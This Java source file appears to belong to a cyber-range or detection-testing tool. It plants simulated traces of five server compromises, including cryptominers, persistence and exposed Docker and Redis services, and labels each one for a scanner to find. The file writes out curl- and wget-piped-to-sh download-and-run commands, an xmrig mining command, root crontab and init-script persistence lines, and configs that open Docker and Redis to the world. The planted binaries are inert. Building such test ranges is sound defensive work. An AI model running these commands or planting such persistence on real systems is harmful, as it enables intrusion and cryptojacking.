package davy.range.plant;

import java.util.ArrayList;
import java.util.List;

/// The files that the five incidents left behind.
final class IncidentArtefacts {
    private IncidentArtefacts() {}

    static void plant(Ground ground) {
        cloudAssistant(ground);
        forgottenMachine(ground);
        openDocker(ground);
        selfReplicator(ground);
        openRedis(ground);
    }

    private static void cloudAssistant(Ground ground) {
        Dice dice = ground.dice;
        String command =
                "#!/bin/sh\ncd /tmp && curl -s "
                        + dice.url()
                        + "/trace.tgz -o trace.tgz && tar xzf trace.tgz && ./trace/run\n"
                        + "wget -qO- "
                        + dice.url()
                        + " | sh\n";
        ground.write(
                "/usr/local/share/aliyun-assist/1.0.1.402/log/aliyun_assist_main.log",
                "2025-12-26 13:39:0%d INFO task {\"task\":{\"taskID\":\"t-bj%s\",\"type\":\"RunShellScript\",\"commandContent\":\"%s\",\"workingDir\":\"/root\"}}\n"
                        .formatted(dice.between(0, 9), dice.hex(12), Inert.base64(command)));
        String script = ground.script("/tmp/t-bj-" + dice.hex(12) + ".sh", command);
        ground.artefact(
                "incident 1: script of the cloud assistant", "download-and-run", "high", script);

        String home = ground.person();
        String miner =
                ground.program("/home/" + home + "/trace/" + ground.word(), minerBody(ground));
        ground.artefact("incident 1: miner in a home", "miner-binary", "critical", miner);
    }

    private static void forgottenMachine(Ground ground) {
        String first = "/boot/" + ground.dice.letters(10);
        ground.program(
                first, Inert.withTail(ground.inert.staticProgram(), ground.dice.letters(10)));
        ground.artefact(
                "incident 2: senseless name in /boot", "random-name process-family", "high", first);

        String second = "/boot/" + ground.dice.letters(10);
        ground.program(
                second, Inert.withTail(ground.inert.staticProgram(), ground.dice.letters(10)));
        ground.artefact("incident 2: its twin", "random-name process-family", "high", second);

        for (String name : List.of("kthreaddi", "kdevtmpfsi", "khugepageds")) {
            String path = ground.program("/tmp/" + name, ground.inert.staticProgram());
            ground.artefact("incident 2: " + name, "known-malware-file", "high", path);
        }
    }

    private static void openDocker(Ground ground) {
        String layer = "/var/lib/docker/overlay2/" + ground.dice.hex(64) + "/diff/";
        String script =
                ground.script(
                        layer + "mac.sh",
                        """
                        #!/bin/bash
                        ./xmrig -o stratum+tcp://%s:%d -u %s -p x -k --donate-level=1
                        """
                                .formatted(
                                        ground.dice.address(),
                                        ground.dice.between(3333, 9999),
                                        Wallet.address(ground.dice)));
        ground.artefact(
                "incident 3: entry point of a miner container",
                "miner-config download-and-run",
                "critical",
                script);

        String daemon =
                ground.write(
                        "/etc/docker/daemon.json",
                        "{\"hosts\": [\"unix:///var/run/docker.sock\", \"tcp://0.0.0.0:2375\"]}\n");
        ground.artefact("incident 3: Docker open to the world", "open-service", "medium", daemon);
    }

    private static void selfReplicator(Ground ground) {
        Dice dice = ground.dice;
        byte[] body = ground.inert.staticProgram();
        var copies = new ArrayList<String>();
        for (int i = 0; i < 5; i++) {
            String copy =
                    ground.program(
                            "/usr/bin/" + dice.letters(10), Inert.withTail(body, dice.letters(10)));
            ground.artefact(
                    "incident 4: copy of itself", "random-name process-family", "high", copy);
            copies.add(copy);
        }
        String core = ground.program("/usr/lib/libudev.so", Inert.withTail(body, dice.letters(10)));
        ground.artefact(
                "incident 4: library that is a program", "known-malware-file", "high", core);

        String second =
                ground.program("/usr/lib/libudev.so.6", Inert.withTail(body, dice.letters(10)));
        ground.artefact("incident 4: its copy", "known-malware-file", "high", second);

        String hourly = ground.script("/etc/cron.hourly/gcc.sh", SelfReplicator.HOURLY);
        ground.artefact(
                "incident 4: hourly script", "cron-unpackaged known-malware-file", "high", hourly);

        ground.append(
                "/etc/crontab",
                "*/" + dice.between(2, 5) + " * * * * root /etc/cron.hourly/gcc.sh\n");
        ground.artefact(
                "incident 4: line in /etc/crontab", "cron-unpackaged", "high", "/etc/crontab");

        String name = copies.getFirst().substring("/usr/bin/".length());
        String init =
                ground.script("/etc/init.d/" + name, SelfReplicator.init(name, copies.getFirst()));
        for (int level = 1; level <= 5; level++) {
            ground.link("/etc/rc" + level + ".d/S90" + name, "/etc/init.d/" + name);
        }
        ground.artefact("incident 4: init script", "init-script", "high", init);

        String pid = ground.write("/run/gcc.pid", dice.letters(32) + "\n");
        ground.artefact("incident 4: pid file", "bot-ipc known-malware-file", "high", pid);
    }

    private static void openRedis(Ground ground) {
        Dice dice = ground.dice;
        String table =
                ground.write(
                        "/var/spool/cron/root",
                        "*/5 19-23,0-7 * * * curl -fsSL https://"
                                + ground.word()
                                + ".example.com/api/report?pm="
                                + dice.hex(4)
                                + " | sh\n");
        ground.artefact("incident 5: crontab of root", "cron-download", "critical", table);
        ground.artefact("incident 5: only at night", "cron-off-hours", "medium", table);

        String miner = ground.program("/var/tmp/minerd", minerBody(ground));
        ground.artefact("incident 5: the miner", "known-malware-file miner-binary", "high", miner);

        String config =
                ground.write(
                        "/etc/redis/redis.conf",
                        """
                        bind 0.0.0.0
                        protected-mode no
                        port 6380
                        daemonize yes
                        dir /var/lib/redis
                        """);
        ground.artefact("incident 5: Redis open to the world", "open-service", "medium", config);

        String firewall =
                ground.write(
                        "/etc/sysconfig/iptables",
                        """
                        *filter
                        :INPUT DROP [0:0]
                        -A INPUT -m state --state RELATED,ESTABLISHED -j ACCEPT
                        -A INPUT -p tcp -m tcp --dport 22 -j ACCEPT
                        -A INPUT -p tcp -m tcp --dport 6380 -j ACCEPT
                        COMMIT
                        """);
        ground.artefact("incident 5: firewall rule", "firewall-opened", "medium", firewall);
    }

    private static byte[] minerBody(Ground ground) {
        return ground.inert.marked(
                "stratum+tcp://",
                "mining.subscribe",
                "mining.authorize",
                "cryptonight",
                "scrypt",
                "Usage: minerd [OPTIONS]",
                "--algo=ALGO");
    }
}
